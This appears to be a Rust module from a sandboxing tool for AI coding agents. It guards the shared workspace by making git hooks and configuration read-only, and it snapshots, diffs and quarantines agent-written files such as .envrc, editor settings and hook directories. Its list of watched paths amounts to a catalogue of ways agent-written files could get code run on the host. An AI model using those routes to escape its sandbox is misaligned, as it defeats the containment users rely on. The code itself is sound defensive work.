//! The workspace guard (ADR 0036): the workspace is the one thing the
//! agent shares with the host, so what it writes there must not run on
//! the host the next time the user works in it.
//!
//! Two halves. Before the agent starts, [`plan`] reads the workspace from
//! the host's side and names what the agent's container gets read-only
//! over its writable workspace: git's hooks and configuration (of the
//! repository, of the worktree a `.git` file points at, of submodules,
//! and the files git's own configuration includes from the workspace),
//! with each git directory bound over itself so it cannot be renamed
//! away and replaced. What cannot be mounted (files that do not exist
//! yet: `.envrc`, `.vscode/`, `.gitattributes`, a `.git` made by
//! `git init`, …) is [`snapshot`]ted; [`compare`] says what the agent
//! created or changed since, [`render`] shows it with a diff, and
//! [`quarantine`] moves it aside.
//!
//! Everything here reads the workspace through directory descriptors with
//! `O_NOFOLLOW` on every component: a symbolic link the agent planted is
//! recorded as a link, never followed on the host. Snapshots are bounded
//! in entries, bytes hashed and bytes kept.

use std::collections::{BTreeMap, BTreeSet};
use std::ffi::OsStr;
use std::fmt::Write as _;
use std::io::Read as _;
use std::os::fd::{AsFd, OwnedFd};
use std::os::unix::ffi::OsStrExt;
use std::path::{Component, Path, PathBuf};

use nix::errno::Errno;
use nix::fcntl::{AtFlags, OFlag, openat, readlinkat, renameat};
use nix::sys::stat::{FileStat, Mode, SFlag, fstat, fstatat};
use serde::{Deserialize, Serialize};
use sha2::Digest as _;

/// At most this many entries are recorded per workspace; past it the
/// snapshot says it is incomplete.
pub const MAX_ENTRIES: usize = 4096;
/// Files larger than this are compared by size and modification time,
/// not hashed.
pub const MAX_HASHED_FILE: u64 = 8 << 20;
/// At most this many bytes are hashed per snapshot; past it, size and time.
pub const MAX_HASHED_TOTAL: u64 = 64 << 20;
/// Text files up to this size are kept, for the diff and to restore them.
pub const MAX_KEPT_FILE: u64 = 64 << 10;
/// At most this many bytes of text are kept per snapshot.
pub const MAX_KEPT_TOTAL: usize = 2 << 20;
/// Deepest directory level recorded under a watched directory.
const MAX_DEPTH: usize = 8;

/// What the guard does for one sandbox, as `ppp ls --json` shows it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Protection {
    /// Git's hooks and configuration read-only, other changes reported.
    On,
    /// As `on`, and changes are moved aside (`workspace.strict`).
    Strict,
    /// The user turned it off for this sandbox (`workspace.unprotected`).
    Off,
    /// `--clone`: the agent works on a clone in the VM; nothing it writes
    /// is in a host directory.
    Clone,
}

/// The guard's settings for one sandbox, from `config.yaml`.
#[derive(Debug, Clone, Default)]
pub struct Settings {
    pub strict: bool,
    pub off: bool,
    /// Extra paths, relative to each workspace.
    pub protect: Vec<String>,
}

impl Settings {
    /// The settings `config.yaml` gives `sandbox`.
    pub fn for_sandbox(config: &crate::config::Config, sandbox: &str) -> Settings {
        let w = &config.workspace;
        Settings {
            strict: w.strict,
            off: w.unprotected.iter().any(|n| n == sandbox),
            protect: w.protect.iter().map(|p| p.as_str().to_owned()).collect(),
        }
    }

    /// The protection a sandbox with these settings has.
    #[must_use]
    pub fn protection(&self, rec: &super::Record) -> Protection {
        if rec.clone.is_some() {
            Protection::Clone
        } else if self.off {
            Protection::Off
        } else if self.strict {
            Protection::Strict
        } else {
            Protection::On
        }
    }
}

/// How far a watched path is recorded.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Depth {
    /// The path itself only (a file, or a git directory's kind).
    Shallow,
    /// Everything below it.
    All,
    /// A hooks directory: everything but git's `*.sample` files, which
    /// git never runs.
    Hooks,
    /// A tree of git directories (`.git/modules`, `.git/worktrees`): only
    /// what makes git run something or look elsewhere (config, hooks,
    /// `commondir`, `gitdir`, `info/attributes`), never objects or refs.
    GitDirs,
}

/// Paths under every workspace that make something run on the host when
/// the user works there: git's own files (watched whether or not `.git`
/// exists yet, so a `git init` by the agent is seen), and files tools
/// read as instructions (direnv, editors, dev containers, git hooks
/// managers).
const WATCHED: &[(&str, Depth)] = &[
    (".git", Depth::Shallow),
    (".git/config", Depth::Shallow),
    (".git/config.worktree", Depth::Shallow),
    (".git/commondir", Depth::Shallow),
    (".git/hooks", Depth::Hooks),
    (".git/info/attributes", Depth::Shallow),
    (".git/modules", Depth::GitDirs),
    (".git/worktrees", Depth::GitDirs),
    (".gitattributes", Depth::Shallow),
    (".gitmodules", Depth::Shallow),
    (".envrc", Depth::Shallow),
    (".vscode", Depth::All),
    (".idea", Depth::All),
    (".devcontainer", Depth::All),
    (".husky", Depth::All),
];

/// One workspace as the guard sees it: its host path, the same directory
/// canonical (to tell whether a resolved path is inside it), and where
/// the VM and the container have it.
#[derive(Debug, Clone)]
pub struct Root {
    pub host: PathBuf,
    pub canonical: PathBuf,
    pub guest: String,
}

impl Root {
    /// The roots of a sandbox's mounted workspaces (none with `--clone`).
    pub fn of(rec: &super::Record) -> Vec<Root> {
        if rec.clone.is_some() {
            return Vec::new();
        }
        rec.workspace
            .iter()
            .map(|w| Root {
                host: PathBuf::from(w),
                canonical: std::fs::canonicalize(w).unwrap_or_else(|_| PathBuf::from(w)),
                guest: super::workspace::guest_path(w),
            })
            .collect()
    }
}

/// Which root `path` (canonical) is in, and its path relative to it.
fn locate(roots: &[Root], path: &Path) -> Option<(usize, String)> {
    roots.iter().enumerate().find_map(|(i, r)| {
        let rest = path.strip_prefix(&r.canonical).ok()?;
        Some((i, rest.to_str()?.to_owned()))
    })
}

/// What the container gets besides its workspaces, and what is watched.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Plan {
    /// `-v` values, parents before children (podman sorts them the same).
    pub mounts: Vec<String>,
    /// Per root: the relative paths watched and how deep.
    watched: Vec<Vec<(String, Depth)>>,
}

/// What git's configuration, read on the host, says about a workspace:
/// every file a value came from, where hooks are, which files it includes.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct GitConfig {
    pub origins: Vec<PathBuf>,
    pub hooks_path: Option<PathBuf>,
    pub includes: Vec<PathBuf>,
}

/// The command that lists git's configuration as it applies in `dir`,
/// with where each value came from (includes followed).
#[must_use]
pub fn git_config_invocation(dir: &Path) -> crate::exec::Invocation {
    crate::exec::Invocation::new("git").arg("-C").arg(dir).args(["config", "--list", "--show-origin", "-z"])
}

/// Parse `git config --list --show-origin -z` (run in `dir`): pairs of
/// `file:<origin>` and `key\nvalue`, NUL-separated. Relative paths are
/// resolved as git resolves them: an origin against `dir`, `core.hooksPath`
/// against the worktree (`dir`), an include against its including file.
#[must_use]
pub fn parse_git_config(out: &[u8], dir: &Path, home: Option<&Path>) -> GitConfig {
    let expand = |v: &str, base: &Path| -> PathBuf {
        match (v.strip_prefix("~/"), home) {
            (Some(rest), Some(h)) => h.join(rest),
            _ => base.join(v),
        }
    };
    let mut cfg = GitConfig::default();
    let mut fields = out.split(|b| *b == 0);
    while let (Some(origin), Some(kv)) = (fields.next(), fields.next()) {
        let origin = String::from_utf8_lossy(origin);
        let Some(file) = origin.strip_prefix("file:") else { continue };
        let file = dir.join(file);
        if !cfg.origins.contains(&file) {
            cfg.origins.push(file.clone());
        }
        let kv = String::from_utf8_lossy(kv);
        let (key, value) = kv.split_once('\n').unwrap_or((&kv, ""));
        let key = key.to_ascii_lowercase();
        if key == "core.hookspath" {
            cfg.hooks_path = Some(expand(value, dir));
        } else if key == "include.path" || (key.starts_with("includeif.") && key.rsplit('.').next() == Some("path")) {
            cfg.includes.push(expand(value, file.parent().unwrap_or(dir)));
        }
    }
    cfg
}

/// The git directory a `.git` file names (`gitdir: <path>`), resolved
/// against the directory holding it.
fn gitdir_of(text: &str, holder: &Path) -> Option<PathBuf> {
    let line = text.lines().next()?.strip_prefix("gitdir:")?.trim();
    (!line.is_empty()).then(|| holder.join(line))
}

/// Read a small file from the host's view, following links: for paths
/// that were there before the agent started (or that it could not reach).
fn read_small(path: &Path) -> Option<String> {
    let mut text = String::new();
    std::fs::File::open(path).ok()?.take(4096).read_to_string(&mut text).ok()?;
    Some(text)
}

/// Decide the read-only mounts and the watched paths, from the host's view
/// of the workspaces before the agent starts. `git_config` gives, per
/// root, what git's configuration says there (see [`git_config_invocation`]).
#[must_use]
pub fn plan(roots: &[Root], extra: &[String], git_config: &[GitConfig]) -> Plan {
    // Host paths (canonical) to bind: `false` = over itself, writable, as
    // a mount point nothing can rename or remove; `true` = read-only.
    let mut binds: BTreeMap<PathBuf, bool> = BTreeMap::new();
    let mut watched: Vec<Vec<(String, Depth)>> =
        roots.iter().map(|_| WATCHED.iter().map(|(p, d)| ((*p).to_owned(), *d)).collect()).collect();
    let watch = |watched: &mut Vec<Vec<(String, Depth)>>, path: &Path, depth: Depth| {
        if let Some((i, rel)) = locate(roots, path)
            && !rel.is_empty()
            && !watched[i].iter().any(|(p, _)| *p == rel)
        {
            watched[i].push((rel, depth));
        }
    };
    let canon = |p: &Path| std::fs::canonicalize(p).ok();
    let bind = |binds: &mut BTreeMap<PathBuf, bool>, p: &Path, ro: bool| {
        if let Some(c) = canon(p)
            && locate(roots, &c).is_some_and(|(_, rel)| !rel.is_empty())
        {
            // Read-only wins when one path is named both ways.
            let e = binds.entry(c).or_insert(ro);
            *e |= ro;
        }
    };
    // A git directory: itself as a mount point, its hooks and config
    // read-only, and the common directory a `commondir` file names.
    let git_dir = |binds: &mut BTreeMap<PathBuf, bool>, watched: &mut Vec<Vec<(String, Depth)>>, dir: &Path| {
        let mut dirs = vec![dir.to_path_buf()];
        if let Some(text) = read_small(&dir.join("commondir")) {
            let common = dir.join(text.trim_end_matches(['\n', '\r']));
            dirs.push(common);
        }
        for d in dirs {
            bind(binds, &d, false);
            for f in ["config", "config.worktree", "commondir", "gitdir"] {
                if d.join(f).is_file() {
                    bind(binds, &d.join(f), true);
                }
            }
            if d.join("hooks").is_dir() {
                bind(binds, &d.join("hooks"), true);
            }
            if let Some(c) = canon(&d) {
                for (f, depth) in [
                    ("config", Depth::Shallow),
                    ("config.worktree", Depth::Shallow),
                    ("commondir", Depth::Shallow),
                    ("gitdir", Depth::Shallow),
                    ("hooks", Depth::Hooks),
                    ("info/attributes", Depth::Shallow),
                ] {
                    watch(watched, &c.join(f), depth);
                }
            }
        }
    };
    for (i, root) in roots.iter().enumerate() {
        let dotgit = root.host.join(".git");
        match std::fs::symlink_metadata(&dotgit) {
            Ok(m) if m.is_file() => {
                // A worktree's or submodule's pointer: read-only, and what
                // it points at as git finds it now, before the agent runs.
                bind(&mut binds, &dotgit, true);
                if let Some(gd) = read_small(&dotgit).and_then(|t| gitdir_of(&t, &root.host)) {
                    git_dir(&mut binds, &mut watched, &gd);
                }
            }
            Ok(_) if dotgit.is_dir() => git_dir(&mut binds, &mut watched, &dotgit),
            _ => {}
        }
        // Submodules' git directories and linked worktrees' pointers.
        for sub in ["modules", "worktrees"] {
            let mut found = Vec::new();
            find_git_dirs(&dotgit.join(sub), 0, &mut found);
            for d in found {
                git_dir(&mut binds, &mut watched, &d);
            }
        }
        if let Some(cfg) = git_config.get(i) {
            for o in &cfg.origins {
                if o.is_file() {
                    bind(&mut binds, o, true);
                    if let Some(c) = canon(o) {
                        watch(&mut watched, &c, Depth::Shallow);
                    }
                }
            }
            for inc in &cfg.includes {
                if inc.is_file() {
                    bind(&mut binds, inc, true);
                }
                watch(&mut watched, &canon(inc).unwrap_or_else(|| inc.clone()), Depth::Shallow);
            }
            if let Some(h) = &cfg.hooks_path {
                if h.is_dir() {
                    bind(&mut binds, h, true);
                }
                watch(&mut watched, &canon(h).unwrap_or_else(|| h.clone()), Depth::All);
            }
        }
        for p in extra {
            let path = root.host.join(p);
            if std::fs::symlink_metadata(&path).is_ok_and(|m| !m.file_type().is_symlink()) {
                bind(&mut binds, &path, true);
            }
            if !watched[i].iter().any(|(w, _)| w == p) {
                watched[i].push((p.clone(), Depth::All));
            }
        }
    }
    let mut list: Vec<(PathBuf, bool)> = binds.into_iter().collect();
    // Parents first: a child mounted before its parent would be hidden.
    list.sort_by_key(|(p, _)| p.components().count());
    let mounts = list
        .into_iter()
        .filter_map(|(p, ro)| {
            let (i, rel) = locate(roots, &p)?;
            let g = format!("{}/{rel}", roots[i].guest.trim_end_matches('/'));
            // podman's -v splits on `:`; such a path cannot be carried.
            (!g.contains([':', ','])).then(|| if ro { format!("{g}:{g}:ro") } else { format!("{g}:{g}") })
        })
        .collect();
    Plan { mounts, watched }
}

/// Git directories under `dir` (`.git/modules/…`, `.git/worktrees/…`):
/// directories holding a `config`, `commondir` or `gitdir`, bounded.
fn find_git_dirs(dir: &Path, depth: usize, found: &mut Vec<PathBuf>) {
    if depth > 4 || found.len() >= 256 {
        return;
    }
    let Ok(entries) = std::fs::read_dir(dir) else { return };
    for e in entries.filter_map(Result::ok).take(256) {
        let Ok(t) = e.file_type() else { continue };
        if !t.is_dir() {
            continue;
        }
        let p = e.path();
        if ["config", "commondir", "gitdir"].iter().any(|f| p.join(f).is_file()) {
            found.push(p.clone());
        }
        if !matches!(e.file_name().to_str(), Some("objects" | "refs" | "logs" | "lfs")) {
            find_git_dirs(&p, depth + 1, found);
        }
    }
}

// --- snapshot -------------------------------------------------------------

/// What one path was.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Kind {
    File,
    Dir,
    Symlink,
    Other,
}

/// One recorded path.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Entry {
    pub kind: Kind,
    /// Permission bits (an executable hook differs from a plain file).
    #[serde(default)]
    pub mode: u32,
    #[serde(default)]
    pub size: u64,
    /// `sha256:<hex>` of the content, or `mtime:<ns>` past the hashing caps.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub digest: Option<String>,
    /// The content, when it is small UTF-8 text.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub text: Option<String>,
    /// A symbolic link's target, as text (never followed).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub target: Option<String>,
}

impl Entry {
    /// Same path, same thing: what the content is decides, not the text kept.
    fn same(&self, other: &Entry) -> bool {
        self.kind == other.kind
            && self.mode == other.mode
            && self.size == other.size
            && self.digest == other.digest
            && self.target == other.target
    }
}

/// One workspace's watched paths at one time.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Tree {
    pub root: String,
    pub entries: BTreeMap<String, Entry>,
    /// A cap was reached: some paths were not recorded.
    #[serde(default)]
    pub truncated: bool,
}

/// Every workspace of a sandbox.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Snapshot {
    pub trees: Vec<Tree>,
}

struct Budget {
    hashed: u64,
    kept: usize,
}

struct Walker {
    tree: Tree,
    budget: Budget,
}

fn open_dir_at(dir: &impl AsFd, name: &OsStr) -> nix::Result<OwnedFd> {
    openat(dir, name, OFlag::O_RDONLY | OFlag::O_DIRECTORY | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC, Mode::empty())
}

fn lstat_at(dir: &impl AsFd, name: &OsStr) -> nix::Result<FileStat> {
    fstatat(dir, name, AtFlags::AT_SYMLINK_NOFOLLOW)
}

fn kind_of(st: &FileStat) -> Kind {
    match SFlag::from_bits_truncate(st.st_mode) & SFlag::S_IFMT {
        SFlag::S_IFREG => Kind::File,
        SFlag::S_IFDIR => Kind::Dir,
        SFlag::S_IFLNK => Kind::Symlink,
        _ => Kind::Other,
    }
}

/// Open a directory of the workspace by its relative path, refusing a
/// link at any step.
fn open_rel_dir(root: &OwnedFd, rel: &[&OsStr]) -> nix::Result<OwnedFd> {
    let mut fd = root.try_clone().map_err(|_| Errno::EBADF)?;
    for part in rel {
        fd = open_dir_at(&fd, part)?;
    }
    Ok(fd)
}

fn open_root(path: &Path) -> std::io::Result<OwnedFd> {
    use std::os::unix::fs::OpenOptionsExt as _;
    let f = std::fs::OpenOptions::new().read(true).custom_flags(libc_o_directory()).open(path)?;
    Ok(OwnedFd::from(f))
}

fn libc_o_directory() -> i32 {
    OFlag::O_DIRECTORY.bits()
}

/// Split a relative path into its names; `None` for anything but plain
/// names (`..`, absolute).
fn names(rel: &str) -> Option<Vec<&OsStr>> {
    Path::new(rel)
        .components()
        .map(|c| match c {
            Component::Normal(n) => Some(n),
            _ => None,
        })
        .collect()
}

impl Walker {
    fn full(&mut self) -> bool {
        if self.tree.entries.len() >= MAX_ENTRIES {
            self.tree.truncated = true;
            return true;
        }
        false
    }

    /// Record `rel`: the parents must be plain directories; a parent that
    /// is a link or a file is recorded itself instead.
    fn watch(&mut self, root: &OwnedFd, rel: &str, depth: Depth) {
        let Some(parts) = names(rel) else { return };
        let Some((last, parents)) = parts.split_last() else { return };
        let Ok(mut fd) = root.try_clone() else { return };
        for (k, part) in parents.iter().enumerate() {
            let Ok(next) = open_dir_at(&fd, part) else {
                // Absent, or not a directory: if it is something (a link
                // where a directory was), record what it is.
                let prefix: PathBuf = parents[..=k].iter().collect();
                if let Ok(st) = lstat_at(&fd, part) {
                    self.record(&fd, part, &prefix.display().to_string(), &st);
                }
                return;
            };
            fd = next;
        }
        let Ok(st) = lstat_at(&fd, last) else { return };
        self.entry(&fd, last, rel, &st, depth, 0);
    }

    fn entry(&mut self, dir: &OwnedFd, name: &OsStr, rel: &str, st: &FileStat, depth: Depth, level: usize) {
        if self.tree.entries.contains_key(rel) || self.full() {
            return;
        }
        self.record(dir, name, rel, st);
        if kind_of(st) != Kind::Dir || depth == Depth::Shallow || level >= MAX_DEPTH {
            return;
        }
        let Ok(sub) = open_dir_at(dir, name) else { return };
        let Ok(listing) = sub.try_clone().map_err(|_| Errno::EBADF).and_then(nix::dir::Dir::from_fd) else { return };
        let mut children: Vec<Vec<u8>> = listing
            .into_iter()
            .filter_map(Result::ok)
            .map(|e| e.file_name().to_bytes().to_vec())
            .filter(|n| n != b"." && n != b"..")
            .take(MAX_ENTRIES + 1)
            .collect();
        children.sort();
        for child in children {
            let cname = OsStr::from_bytes(&child);
            let Some(cstr) = cname.to_str() else {
                // A name that is not UTF-8 cannot be shown or kept as a key:
                // recorded under an escaped name, never descended into.
                let shown = format!("{rel}/{}", String::from_utf8_lossy(&child).escape_default());
                if let Ok(cst) = lstat_at(&sub, cname) {
                    self.record(&sub, cname, &shown, &cst);
                }
                continue;
            };
            let crel = format!("{rel}/{cstr}");
            let Ok(cst) = lstat_at(&sub, cname) else { continue };
            let ckind = kind_of(&cst);
            match depth {
                Depth::Hooks if cstr.ends_with(".sample") => continue,
                Depth::GitDirs if ckind == Kind::Dir => {
                    if matches!(cstr, "objects" | "refs" | "logs" | "lfs") {
                        continue;
                    }
                    let next = if cstr == "hooks" { Depth::Hooks } else { Depth::GitDirs };
                    self.entry(&sub, cname, &crel, &cst, next, level + 1);
                    continue;
                }
                Depth::GitDirs => {
                    let keep = matches!(cstr, "config" | "config.worktree" | "commondir" | "gitdir")
                        || (cstr == "attributes" && rel.ends_with("/info"));
                    if !keep {
                        continue;
                    }
                }
                _ => {}
            }
            self.entry(&sub, cname, &crel, &cst, depth, level + 1);
        }
    }

    /// One path's entry, its content read without following a link.
    fn record(&mut self, dir: &OwnedFd, name: &OsStr, rel: &str, st: &FileStat) {
        if self.full() {
            return;
        }
        let kind = kind_of(st);
        let size = u64::try_from(st.st_size).unwrap_or(0);
        #[allow(clippy::useless_conversion)] // mode_t is u16 on some systems
        let mode = u32::from(st.st_mode) & 0o7777;
        let mut e = Entry { kind, mode, size, digest: None, text: None, target: None };
        match kind {
            Kind::Symlink => {
                e.target = readlinkat(dir, name).ok().map(|t| t.to_string_lossy().into_owned());
            }
            Kind::File => self.content(dir, name, st, &mut e),
            Kind::Dir | Kind::Other => {}
        }
        self.tree.entries.insert(rel.to_owned(), e);
    }

    fn content(&mut self, dir: &OwnedFd, name: &OsStr, st: &FileStat, e: &mut Entry) {
        let by_time = || format!("mtime:{}.{}", st.st_mtime, st.st_mtime_nsec);
        if e.size > MAX_HASHED_FILE || self.budget.hashed + e.size > MAX_HASHED_TOTAL {
            e.digest = Some(by_time());
            return;
        }
        let flags = OFlag::O_RDONLY | OFlag::O_NOFOLLOW | OFlag::O_NONBLOCK | OFlag::O_NOCTTY | OFlag::O_CLOEXEC;
        let Ok(fd) = openat(dir, name, flags, Mode::empty()) else { return };
        // The file opened must be the one stat'ed: a regular file.
        if fstat(&fd).map(|s| kind_of(&s)) != Ok(Kind::File) {
            return;
        }
        let mut bytes = Vec::new();
        let read = std::fs::File::from(fd).take(MAX_HASHED_FILE + 1).read_to_end(&mut bytes);
        if read.is_err() {
            e.digest = Some(by_time());
            return;
        }
        self.budget.hashed += bytes.len() as u64;
        e.size = bytes.len() as u64;
        e.digest = Some(format!("sha256:{:x}", sha2::Sha256::digest(&bytes)));
        if bytes.len() as u64 <= MAX_KEPT_FILE
            && self.budget.kept + bytes.len() <= MAX_KEPT_TOTAL
            && let Ok(text) = String::from_utf8(bytes)
        {
            self.budget.kept += text.len();
            e.text = Some(text);
        }
    }
}

/// Record the watched paths of every workspace, as they are now.
#[must_use]
pub fn snapshot(roots: &[Root], plan: &Plan) -> Snapshot {
    let mut budget = Budget { hashed: 0, kept: 0 };
    let mut trees = Vec::new();
    for (i, root) in roots.iter().enumerate() {
        let mut w = Walker { tree: Tree { root: root.host.display().to_string(), ..Tree::default() }, budget };
        if let Ok(fd) = open_root(&root.host) {
            for (rel, depth) in plan.watched.get(i).map_or(&[][..], Vec::as_slice) {
                w.watch(&fd, rel, *depth);
            }
        }
        budget = w.budget;
        trees.push(w.tree);
    }
    Snapshot { trees }
}

// --- changes --------------------------------------------------------------

/// What happened to one path.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum How {
    Created,
    Changed,
    Removed,
}

/// One path the agent created, changed or removed.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Change {
    /// The workspace (host path).
    pub root: String,
    /// Relative to it.
    pub path: String,
    pub how: How,
    pub before: Option<Entry>,
    pub after: Option<Entry>,
}

/// What changed between two snapshots of the same workspaces. Directories
/// are not reported themselves: what is in them is.
#[must_use]
pub fn compare(before: &Snapshot, after: &Snapshot) -> Vec<Change> {
    let mut out = Vec::new();
    let empty = BTreeMap::new();
    for (i, now) in after.trees.iter().enumerate() {
        let was = before.trees.get(i).filter(|t| t.root == now.root).map_or(&empty, |t| &t.entries);
        let paths: BTreeSet<&String> = was.keys().chain(now.entries.keys()).collect();
        for p in paths {
            let (b, a) = (was.get(p), now.entries.get(p));
            let how = match (b, a) {
                (None, Some(a)) if a.kind != Kind::Dir => How::Created,
                (Some(b), None) if b.kind != Kind::Dir => How::Removed,
                (Some(b), Some(a)) if !(b.same(a) || (b.kind == Kind::Dir && a.kind == Kind::Dir)) => How::Changed,
                _ => continue,
            };
            // Removed paths are not reported when the snapshot after was cut
            // short: they may only be unrecorded.
            if how == How::Removed && now.truncated {
                continue;
            }
            out.push(Change { root: now.root.clone(), path: p.clone(), how, before: b.cloned(), after: a.cloned() });
        }
    }
    out
}

fn describe(e: &Entry) -> String {
    match e.kind {
        Kind::File => format!("file, {} bytes, mode {:o}", e.size, e.mode),
        Kind::Dir => "directory".to_owned(),
        Kind::Symlink => format!("symbolic link to `{}`, not followed", e.target.as_deref().unwrap_or("?")),
        Kind::Other => "not a regular file".to_owned(),
    }
}

/// At most this many diff lines are shown per file.
const MAX_DIFF_LINES: usize = 60;

/// A line diff of two texts (longest common subsequence; texts are at
/// most [`MAX_KEPT_FILE`] each, and longer line lists fall back to all
/// removed, all added).
#[allow(clippy::many_single_char_names)] // the textbook LCS names
fn diff(a: &str, b: &str) -> Vec<String> {
    let (x, y): (Vec<&str>, Vec<&str>) = (a.lines().collect(), b.lines().collect());
    let mut out = Vec::new();
    if x.len() * y.len() > 4_000_000 {
        out.extend(x.iter().map(|l| format!("-{l}")));
        out.extend(y.iter().map(|l| format!("+{l}")));
        return out;
    }
    let (n, m) = (x.len(), y.len());
    let mut lcs = vec![vec![0u32; m + 1]; n + 1];
    for i in (0..n).rev() {
        for j in (0..m).rev() {
            lcs[i][j] = if x[i] == y[j] { lcs[i + 1][j + 1] + 1 } else { lcs[i + 1][j].max(lcs[i][j + 1]) };
        }
    }
    let (mut i, mut j) = (0, 0);
    let mut ops: Vec<(char, &str)> = Vec::new();
    while i < n || j < m {
        if i < n && j < m && x[i] == y[j] {
            ops.push((' ', x[i]));
            i += 1;
            j += 1;
        } else if i < n && (j == m || lcs[i + 1][j] >= lcs[i][j + 1]) {
            ops.push(('-', x[i]));
            i += 1;
        } else {
            ops.push(('+', y[j]));
            j += 1;
        }
    }
    // Unchanged lines only next to a change, as context.
    let near = |k: usize| ops[k.saturating_sub(1)..(k + 2).min(ops.len())].iter().any(|(c, _)| *c != ' ');
    for (k, (c, l)) in ops.iter().enumerate() {
        if *c != ' ' || near(k) {
            out.push(format!("{c}{l}"));
        }
    }
    out
}

/// The changes as the user reads them: each path with what it was and is,
/// and a diff of text. Every character a guest chose goes through
/// [`crate::output::printable`]: a file name or line cannot drive the
/// terminal.
#[must_use]
pub fn render(sandbox: &str, changes: &[Change]) -> String {
    let p = |s: &str| crate::output::printable(s).into_owned();
    let mut out = String::new();
    let _ = writeln!(
        out,
        "ppp: in sandbox `{}`, the agent created or changed files that can run code on this host when you next work \
         in the workspace:",
        p(sandbox)
    );
    for c in changes {
        let path = Path::new(&c.root).join(&c.path);
        let what = match (&c.before, &c.after) {
            (_, Some(a)) if c.how == How::Created => describe(a),
            (Some(b), None) => format!("was: {}", describe(b)),
            (Some(b), Some(a)) if b.kind == a.kind && b.mode != a.mode && b.digest == a.digest => {
                format!("mode {:o} -> {:o}", b.mode, a.mode)
            }
            (Some(b), Some(a)) if b.kind == a.kind => describe(a),
            (Some(b), Some(a)) => format!("{} -> {}", describe(b), describe(a)),
            _ => String::new(),
        };
        let how = match c.how {
            How::Created => "created",
            How::Changed => "changed",
            How::Removed => "removed",
        };
        let _ = writeln!(out, "  {how}: {} ({})", p(&path.display().to_string()), p(&what));
        let before = c.before.as_ref().filter(|e| e.kind == Kind::File);
        let after = c.after.as_ref().filter(|e| e.kind == Kind::File);
        if c.how == How::Removed {
            continue;
        }
        let lines = match (before.map(|e| e.text.as_deref()), after.map(|e| e.text.as_deref())) {
            (None | Some(Some(_)), Some(Some(a))) => diff(before.and_then(|e| e.text.as_deref()).unwrap_or(""), a),
            (_, Some(None)) => vec!["(binary or too large to show)".to_owned()],
            _ => Vec::new(),
        };
        for l in lines.iter().take(MAX_DIFF_LINES) {
            let _ = writeln!(out, "    {}", p(l));
        }
        if lines.len() > MAX_DIFF_LINES {
            let _ = writeln!(out, "    … {} more lines", lines.len() - MAX_DIFF_LINES);
        }
    }
    out
}

/// A path moved aside, and whether its earlier content was put back.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Moved {
    pub from: String,
    pub to: String,
    pub restored: bool,
}

/// Move each created or changed path aside to `<name>.ppp-quarantine`
/// (`.1`, `.2`, … when taken), and put back a changed file's earlier
/// content when the snapshot kept it. Renames go through the parent's
/// descriptor, opened without following links, and rename the link
/// itself, never what it points to. Removed paths are left as they are.
pub fn quarantine(changes: &[Change]) -> Vec<Result<Moved, String>> {
    changes
        .iter()
        .filter(|c| c.how != How::Removed && c.after.as_ref().is_some_and(|a| a.kind != Kind::Dir))
        .map(|c| quarantine_one(c).map_err(|e| format!("{}: {e}", Path::new(&c.root).join(&c.path).display())))
        .collect()
}

fn quarantine_one(c: &Change) -> Result<Moved, String> {
    let parts = names(&c.path).ok_or("not a plain relative path")?;
    let (last, parents) = parts.split_last().ok_or("empty path")?;
    let root = open_root(Path::new(&c.root)).map_err(|e| e.to_string())?;
    let dir = open_rel_dir(&root, parents).map_err(|e| format!("its directory: {e}"))?;
    // What is there now must be what was reported.
    let st = lstat_at(&dir, last).map_err(|e| e.to_string())?;
    if Some(kind_of(&st)) != c.after.as_ref().map(|a| a.kind) {
        return Err("changed again since it was recorded".to_owned());
    }
    let base = last.to_string_lossy();
    let mut target = format!("{base}.ppp-quarantine");
    let mut n = 0;
    while lstat_at(&dir, OsStr::new(&target)).is_ok() {
        n += 1;
        target = format!("{base}.ppp-quarantine.{n}");
    }
    renameat(&dir, *last, &dir, OsStr::new(&target)).map_err(|e| e.to_string())?;
    let mut restored = false;
    if let Some(b) = c.before.as_ref().filter(|b| b.kind == Kind::File)
        && let Some(text) = &b.text
    {
        let flags = OFlag::O_WRONLY | OFlag::O_CREAT | OFlag::O_EXCL | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC;
        let mode = Mode::from_bits_truncate((b.mode & 0o777) as _);
        if let Ok(fd) = openat(&dir, *last, flags, mode) {
            use std::io::Write as _;
            restored = std::fs::File::from(fd).write_all(text.as_bytes()).is_ok();
        }
    }
    let shown = |name: &str| {
        let mut p: PathBuf = Path::new(&c.root).to_path_buf();
        p.extend(parents);
        p.join(name).display().to_string()
    };
    Ok(Moved { from: shown(&base), to: shown(&target), restored })
}

/// What `--strict` did, as the user reads it.
#[must_use]
pub fn render_moved(moved: &[Result<Moved, String>]) -> String {
    let p = |s: &str| crate::output::printable(s).into_owned();
    let mut out = String::new();
    for m in moved {
        match m {
            Ok(m) if m.restored => {
                let _ = writeln!(out, "ppp: moved aside: {} -> {} (earlier content put back)", p(&m.from), p(&m.to));
            }
            Ok(m) => {
                let _ = writeln!(out, "ppp: moved aside: {} -> {}", p(&m.from), p(&m.to));
            }
            Err(e) => {
                let _ = writeln!(out, "ppp: could not move aside {}", p(e));
            }
        }
    }
    out
}

// --- the sandbox's side ---------------------------------------------------

/// What one check found, and did with `strict`.
#[derive(Debug, Default)]
pub struct Outcome {
    pub changes: Vec<Change>,
    /// The report as printed (empty when nothing changed).
    pub text: String,
    /// With `strict`: something was moved aside (the command fails).
    pub moved: bool,
}

